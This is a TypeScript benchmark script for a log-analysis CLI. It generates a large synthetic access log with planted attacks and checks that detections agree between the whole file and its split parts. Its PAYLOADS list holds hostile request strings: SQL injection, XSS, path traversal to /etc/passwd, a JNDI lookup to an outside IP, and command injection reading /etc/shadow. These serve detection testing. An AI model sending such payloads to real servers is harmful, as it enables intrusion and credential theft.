/**
 * `npm run bench:bigfile`: the CLI on a 2 GB log — bounded memory, and the same findings as on
 * the same file split in parts.
 *
 * 1. Generates a combined access log of ~2 GB into a temporary folder, streamed (never held
 *    whole): ordinary traffic from thousands of sources over 30 days, with attacks planted at
 *    known places — SQL injection and other payloads, attack-tool user agents, brute-force
 *    bursts on login pages, URL scans.
 * 2. Runs `node dist/cli.js analyze --format json` on it under /usr/bin/time -v (peak RSS, wall
 *    time); the CLI also reports its own process.resourceUsage().maxRSS.
 * 3. Splits the file in PARTS at line boundaries, analyses each part the same way, and compares
 *    the sources each rule reports in the whole file with those reported in the parts. Rules
 *    that judge one source by its own requests within a short window (web-attack, scanner,
 *    brute-force, url-scan, compromise) must agree, except for a burst cut by a split — which
 *    is checked and explained. Rules that compare a source with the whole population
 *    (high-volume, error-rate, data-exfiltration, ml-outlier) are listed, not required to match.
 *
 *   npm run bench:bigfile [-- --gb 2] [-- --parts 4] [-- --keep]      (not run in CI)
 */
import { spawn } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { parseArgs } from 'node:util';
import type { AnalysisReport, RuleId } from '../server/src/engine/model';
import { seededRandom } from '../test/support/syntheticLogs';
import { MONTH_ABBREVIATIONS as MONTHS } from '../server/src/engine/time/monthNameDate';

const ROOT = path.resolve(__dirname, '..');
const CLI = path.join(ROOT, 'dist', 'cli.js');
const PER_SOURCE_RULES: RuleId[] = ['web-attack', 'scanner', 'brute-force', 'url-scan', 'compromise-after-brute-force'];
const POPULATION_RULES: RuleId[] = ['high-volume', 'error-rate', 'data-exfiltration', 'ml-outlier', 'off-hours', 'port-scan'];

const p2 = (n: number) => (n < 10 ? '0' + n : String(n));
function clf(ms: number): string {
  const d = new Date(ms);
  return `${p2(d.getUTCDate())}/${MONTHS[d.getUTCMonth()]}/${d.getUTCFullYear()}:${p2(d.getUTCHours())}:${p2(d.getUTCMinutes())}:${p2(d.getUTCSeconds())} +0000`;
}

const PAGES = ['/', '/index.html', '/products', '/products/42', '/cart', '/search?q=shoes', '/blog/2024/03/hello', '/static/app.js', '/static/app.css', '/img/logo.png', '/api/items?page=2', '/about'];
const AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_3) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
];
const PAYLOADS = [
  "/item?id=1%27%20union%20select%20username,password%20from%20users--",
  '/search?q=%3Cscript%3Ealert(1)%3C/script%3E',
  '/download?file=../../../../etc/passwd',
  '/api?x=${jndi:ldap://203.0.113.77/a}',
  '/cgi-bin/test?cmd=;cat%20/etc/shadow',
];
const TOOLS = ['sqlmap/1.7.2#stable (https://sqlmap.org)', 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)', 'gobuster/3.6', 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)'];

interface Planted {
  attackers: Map<string, string>;
}

/** Writes the log; returns the attackers planted (source → kind). */
async function generate(file: string, targetBytes: number, seed: number): Promise<Planted> {
  const random = seededRandom(seed);
  const out = fs.createWriteStream(file, { highWaterMark: 4 << 20 });
  const attackers = new Map<string, string>();
  const start = Date.UTC(2024, 2, 1);
  const span = 30 * 86_400_000;
  const approxLines = Math.round(targetBytes / 190);
  const step = span / approxLines;
  let written = 0;
  let t = start;
  let n = 0;
  let buffer = '';
  // Planned attacks: each starts at a random line and writes one line per step for a short burst.
  const bursts: { at: number; source: string; kind: string; left: number; k: number }[] = [];
  const attackCount = 400;
  for (let i = 0; i < attackCount; i++) {
    const kind = ['payload', 'tool', 'brute', 'scan'][i % 4];
    const source = `198.18.${(i >> 8) & 255}.${i & 255}`;
    attackers.set(source, kind);
    bursts.push({ at: Math.floor(random() * approxLines * 0.85), source, kind, left: kind === 'brute' ? 12 : kind === 'scan' ? 40 : 3, k: 0 });
  }
  bursts.sort((a, b) => a.at - b.at);
  let nextBurst = 0;
  const active: typeof bursts = [];
  const flush = async () => {
    if (!out.write(buffer)) await new Promise<void>((r) => out.once('drain', () => r()));
    written += Buffer.byteLength(buffer);
    buffer = '';
  };
  while (written + buffer.length < targetBytes) {
    t += step * (0.5 + random());
    const stamp = clf(t);
    while (nextBurst < bursts.length && bursts[nextBurst].at <= n) active.push(bursts[nextBurst++]);
    if (active.length > 0 && random() < 0.5) {
      const b = active[Math.floor(random() * active.length)];
      let line: string;
      if (b.kind === 'payload') line = `${b.source} - - [${stamp}] "GET ${PAYLOADS[b.k % PAYLOADS.length]} HTTP/1.1" 200 ${500 + b.k} "-" "${AGENTS[0]}"`;
      else if (b.kind === 'tool') line = `${b.source} - - [${stamp}] "GET /login.php HTTP/1.1" 404 153 "-" "${TOOLS[b.k % TOOLS.length]}"`;
      else if (b.kind === 'brute') line = `${b.source} - - [${stamp}] "POST /wp-login.php HTTP/1.1" 401 1200 "-" "${AGENTS[2]}"`;
      else line = `${b.source} - - [${stamp}] "GET /probe-${b.k}/.env HTTP/1.1" 404 153 "-" "${AGENTS[1]}"`;
      buffer += line + '\n';
      b.k++;
      if (--b.left === 0) active.splice(active.indexOf(b), 1);
    } else {
      const src = Math.floor(random() ** 2 * 20_000);
      const ip = `10.${(src >> 16) & 255}.${(src >> 8) & 255}.${src & 255}`;
      const page = PAGES[Math.floor(random() * PAGES.length)];
      const status = random() < 0.03 ? 404 : 200;
      buffer += `${ip} - - [${stamp}] "GET ${page} HTTP/1.1" ${status} ${200 + Math.floor(random() * 50_000)} "https://shop.example/" "${AGENTS[src % AGENTS.length]}"\n`;
    }
    n++;
    if (buffer.length > 1 << 20) await flush();
  }
  await flush();
  await new Promise<void>((resolve, reject) => out.end((err?: Error | null) => (err ? reject(err) : resolve())));
  return { attackers };
}

interface CliRun {
  report: AnalysisReport;
  peakRssMb: number;
  selfRssMb: number;
  seconds: number;
  stderr: string;
}

/** The CLI on `file` under /usr/bin/time -v; the report goes to a file (it may be large). */
function runCli(file: string, dir: string): Promise<CliRun> {
  return new Promise((resolve, reject) => {
    const reportFile = path.join(dir, `${path.basename(file)}.json`);
    const rssFile = path.join(dir, `${path.basename(file)}.rss`);
    // The CLI's own view of its peak, written as it exits (worker threads included: one process).
    const preload = path.join(dir, 'report-rss.js');
    fs.writeFileSync(preload, `process.on('exit', () => require('fs').writeFileSync(${JSON.stringify(rssFile)}, String(process.resourceUsage().maxRSS)));\n`);
    const useTime = fs.existsSync('/usr/bin/time');
    const args = ['--require', preload, CLI, 'analyze', '--format', 'json', '--output', reportFile, file];
    const child = useTime ? spawn('/usr/bin/time', ['-v', process.execPath, ...args]) : spawn(process.execPath, args);
    let stderr = '';
    child.stderr.on('data', (c: Buffer) => (stderr += c.toString()));
    const t0 = performance.now();
    child.on('error', reject);
    child.on('exit', (code) => {
      const seconds = (performance.now() - t0) / 1000;
      if (code !== 0 && code !== 1) return reject(new Error(`logwarden exited ${code}:\n${stderr.slice(-3000)}`));
      const m = /Maximum resident set size \(kbytes\): (\d+)/.exec(stderr);
      const self = Number(fs.readFileSync(rssFile, 'utf8')) / 1024;
      resolve({ report: JSON.parse(fs.readFileSync(reportFile, 'utf8')) as AnalysisReport, peakRssMb: m ? Number(m[1]) / 1024 : self, selfRssMb: self, seconds, stderr });
    });
  });
}

/** Splits at line boundaries into `parts` files of about equal size (streamed copies). */
async function split(file: string, parts: number, dir: string): Promise<string[]> {
  const size = fs.statSync(file).size;
  const fd = fs.openSync(file, 'r');
  const cuts = [0];
  const probe = Buffer.alloc(64 * 1024);
  for (let k = 1; k < parts; k++) {
    const at = Math.floor((size * k) / parts);
    const n = fs.readSync(fd, probe, 0, probe.length, at);
    const nl = probe.subarray(0, n).indexOf(10);
    cuts.push(at + nl + 1);
  }
  cuts.push(size);
  fs.closeSync(fd);
  const files: string[] = [];
  for (let k = 0; k < parts; k++) {
    const target = path.join(dir, `part-${k + 1}.log`);
    await new Promise<void>((resolve, reject) => {
      fs.createReadStream(file, { start: cuts[k], end: cuts[k + 1] - 1, highWaterMark: 4 << 20 })
        .pipe(fs.createWriteStream(target))
        .on('finish', () => resolve())
        .on('error', reject);
    });
    files.push(target);
  }
  return files;
}

function sourcesByRule(report: AnalysisReport): Map<string, Set<string>> {
  const out = new Map<string, Set<string>>();
  for (const f of report.files.flatMap((x) => x.findings)) {
    const set = out.get(f.rule) ?? new Set<string>();
    set.add(f.source ?? '(none)');
    out.set(f.rule, set);
  }
  return out;
}

/** Which parts hold lines of each source (for explaining a burst cut by a split). */
async function partsOfSources(files: string[], sources: Set<string>): Promise<Map<string, Set<number>>> {
  const out = new Map<string, Set<number>>();
  for (let k = 0; k < files.length; k++) {
    let rest = '';
    for await (const chunk of fs.createReadStream(files[k], { encoding: 'latin1', highWaterMark: 4 << 20 })) {
      const text = rest + (chunk as string);
      let start = 0;
      for (;;) {
        const nl = text.indexOf('\n', start);
        if (nl < 0) break;
        const space = text.indexOf(' ', start);
        const source = text.slice(start, space);
        if (sources.has(source)) {
          const set = out.get(source) ?? new Set<number>();
          set.add(k + 1);
          out.set(source, set);
        }
        start = nl + 1;
      }
      rest = text.slice(start);
    }
  }
  return out;
}

async function main(): Promise<void> {
  const { values } = parseArgs({ options: { gb: { type: 'string', default: '2' }, parts: { type: 'string', default: '4' }, keep: { type: 'boolean', default: false }, dir: { type: 'string' } } });
  const bytes = Math.round(Number(values.gb) * 1024 ** 3);
  const parts = Number(values.parts);
  const dir = values.dir ?? path.join(os.tmpdir(), 'logwarden-bigfile');
  fs.mkdirSync(dir, { recursive: true });
  const big = path.join(dir, 'big.log');
  if (!fs.existsSync(CLI)) throw new Error('dist/cli.js is missing: run `node esbuild.mjs` first');

  const t0 = performance.now();
  const planted = await generate(big, bytes, 20240312);
  const size = fs.statSync(big).size;
  console.log(`generated ${big}: ${(size / 1024 ** 3).toFixed(2)} GB in ${((performance.now() - t0) / 1000).toFixed(1)} s, ${planted.attackers.size} planted attackers`);

  const whole = await runCli(big, dir);
  const wholeFile = whole.report.files[0];
  console.log(`whole file: ${wholeFile.lines} lines, ${wholeFile.findings.length} findings in ${whole.seconds.toFixed(1)} s; peak RSS ${whole.peakRssMb.toFixed(0)} MB (/usr/bin/time), ${whole.selfRssMb.toFixed(0)} MB (process.resourceUsage)`);
  for (const line of whole.stderr.split('\n').filter((l) => l.startsWith('logwarden:'))) console.log(`  ${line}`);

  const files = await split(big, parts, dir);
  const partRuns: CliRun[] = [];
  for (const f of files) {
    const run = await runCli(f, dir);
    partRuns.push(run);
    console.log(`${path.basename(f)}: ${run.report.files[0].lines} lines, ${run.report.files[0].findings.length} findings in ${run.seconds.toFixed(1)} s; peak RSS ${run.peakRssMb.toFixed(0)} MB`);
  }

  const wholeSources = sourcesByRule(whole.report);
  const partSources = new Map<string, Set<string>>();
  for (const run of partRuns) for (const [rule, set] of sourcesByRule(run.report)) partSources.set(rule, new Set([...(partSources.get(rule) ?? []), ...set]));

  console.log('\nsources per rule: whole file vs the union of the parts');
  const differing = new Set<string>();
  const rows: { rule: string; whole: number; parts: number; onlyWhole: string[]; onlyParts: string[] }[] = [];
  for (const rule of [...PER_SOURCE_RULES, ...POPULATION_RULES]) {
    const w = wholeSources.get(rule) ?? new Set<string>();
    const p = partSources.get(rule) ?? new Set<string>();
    const onlyWhole = [...w].filter((s) => !p.has(s));
    const onlyParts = [...p].filter((s) => !w.has(s));
    rows.push({ rule, whole: w.size, parts: p.size, onlyWhole, onlyParts });
    if (PER_SOURCE_RULES.includes(rule)) for (const s of [...onlyWhole, ...onlyParts]) differing.add(s);
    console.log(`  ${rule.padEnd(30)} whole ${String(w.size).padStart(6)}  parts ${String(p.size).padStart(6)}  only in whole ${String(onlyWhole.length).padStart(5)}  only in parts ${String(onlyParts.length).padStart(5)}${PER_SOURCE_RULES.includes(rule) ? '' : '  (compares with the population: may differ)'}`);
  }

  const where = await partsOfSources(files, differing);
  let unexplained = 0;
  for (const row of rows.filter((r) => PER_SOURCE_RULES.includes(r.rule as RuleId))) {
    for (const s of [...row.onlyWhole, ...row.onlyParts]) {
      const inParts = [...(where.get(s) ?? [])];
      const straddles = inParts.length > 1;
      if (!straddles) unexplained++;
      console.log(`  ${row.rule}: ${s} ${row.onlyWhole.includes(s) ? 'only in the whole file' : 'only in the parts'}; its lines are in part(s) ${inParts.join(', ') || '?'}${straddles ? ' — its burst is cut by a split' : ' — NOT explained by a split'}`);
    }
  }
  const missed = [...planted.attackers.keys()].filter((s) => ![...wholeSources.values()].some((set) => set.has(s)));
  console.log(`\nplanted attackers reported in the whole file: ${planted.attackers.size - missed.length} of ${planted.attackers.size}${missed.length ? ` (missed: ${missed.slice(0, 10).join(', ')}${missed.length > 10 ? ', …' : ''})` : ''}`);
  console.log(`per-source differences not explained by a split: ${unexplained}`);
  console.log(`peak RSS: whole ${whole.peakRssMb.toFixed(0)} MB; parts max ${Math.max(...partRuns.map((r) => r.peakRssMb)).toFixed(0)} MB`);
  if (!values.keep) fs.rmSync(dir, { recursive: true, force: true });
  process.exit(unexplained === 0 ? 0 : 1);
}

main().catch((err: unknown) => {
  console.error(err);
  process.exit(1);
});
